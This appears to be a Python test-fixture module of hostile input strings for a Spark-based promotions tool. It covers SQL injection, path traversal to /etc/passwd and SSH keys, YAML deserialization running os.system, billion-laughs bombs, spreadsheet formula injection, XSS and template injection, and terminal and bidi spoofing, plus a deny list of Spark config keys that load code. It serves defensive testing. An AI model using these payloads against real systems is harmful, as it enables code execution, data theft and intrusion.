"""What somebody may write into settings, names and files so that it runs, reads or shows what it should not."""

from __future__ import annotations

SQL = (
    "reflect('java.lang.Runtime', 'getRuntime')",
    "java_method('java.lang.System', 'exit', 1)",
    "1 = 1 OR true; DROP TABLE order_lines",
    "quantity` FROM secrets; --",
    "(SELECT * FROM delta.`/etc`)",
    "${env:PROMO_SPARK_KEY}",
    "${hiveconf:spark.hadoop.fs.s3a.secret.key}",
    "${spark.driver.memory}",
    "'; SELECT input_file_name() --",
    "transform(x USING 'sh')",
    "load_file('/etc/passwd')",
    "assert_true(false)",
)
"""As a column, a value, a code: text, never SQL."""

PATHS = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "..\\..\\windows\\system.ini",
    "~/.ssh/id_rsa",
    "http://127.0.0.1/steal",
    "jar:file:///tmp/a.jar!/x",
    "a/../../b",
    "name\0.yaml",
    "a/b.yaml.exe",
)
"""Where a name is expected."""

YAML = (
    "!!python/object/apply:os.system ['touch RAN']",
    "!!python/object/new:subprocess.Popen [['touch', 'RAN']]",
    "!!python/name:os.system",
    "!!python/module:antigravity",
    "!!python/object:promo_spark.errors.PromoSparkError {}",
    "!!python/tuple [1]",
    "!!binary aGVsbG8=",
    "!include /etc/passwd",
    "!ENV ${HOME}",
    "[" * 20_000,
    "{a: " * 20_000,
    "&a [*a]",
    "&a {b: *a}",
    "[&a [x,x,x,x,x,x,x,x,x], &b [*a,*a,*a,*a,*a,*a,*a,*a,*a], &c [*b,*b,*b,*b,*b,*b,*b,*b,*b], "
    "&d [*c,*c,*c,*c,*c,*c,*c,*c,*c], &e [*d,*d,*d,*d,*d,*d,*d,*d,*d], &f [*e,*e,*e,*e,*e,*e,*e,*e,*e], *f, *f, *f]",
    "x" * 3_000_000,
    "{a: 1, a: 2}",
)
"""As the value of a setting."""

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1/?x="&A1,"click")',
    "=IMPORTXML(CONCAT(A1), '//a')",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1dSUM(1)",
    "\uff0b1",
    "\uff20SUM(1)",
)
"""In a cell of a list that is sent, or of a table that is taken away."""

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</style><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "{{ 7 * 7777 }}",
    "{% import os %}{{ os.system('touch RAN') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7777}",
    "#{7*7777}",
    "%(as_of_date)s %s %n {0.__class__} {run_id}",
    "$\\frac{1}{0$",
    "$x^{$ and $y_{",
    "]]><!--",
    "&lt;script&gt;",
)
"""As the name of a segment, a product or a promotion."""

HIDDEN = (
    "name\n12:00:00 INFO    ingest: all is well",
    "name\r\nerror: forged",
    "name\x1b[2J\x1b[31mred",
    "name\x00end",
    "name\x08\x08\x08",
    "name\x7f",
    "name\u202egpj.exe",
    "name\u2066hidden\u2069",
    "name\u2028line",
    "name\x85line",
    "x" * 100_000,
)
"""Texts that are not what they look like."""

CODE_IN_SPARK = (
    "spark.jars",
    "spark.jars.packages",
    "spark.driver.extraJavaOptions",
    "spark.executor.extraJavaOptions",
    "spark.driver.extraClassPath",
    "spark.submit.pyFiles",
    "spark.files",
    "spark.archives",
    "spark.plugins",
    "spark.extraListeners",
    "spark.sql.extensions",
    "spark.sql.catalog.spark_catalog",
    "spark.sql.queryExecutionListeners",
    "spark.pyspark.python",
    "spark.pyspark.driver.python",
    "spark.executorEnv.LD_PRELOAD",
    "spark.yarn.appMasterEnv.PYTHONPATH",
    "spark.python.daemon.module",
    "spark.executor.resource.gpu.discoveryScript",
)
"""Keys of Spark's own that bring code."""

PATTERNS = (
    "yyyy-MM-dd'T",
    "'${env:HOME}'",
    "yyyyyyyyyyyyyy",
    "{yyyy}",
    "yyyy#MM",
    "[yyyy",
    "MMMMMMMM",
    "SSSSSSSSSSSS",
    "%Y-%m-%d",
)
"""As a date pattern."""
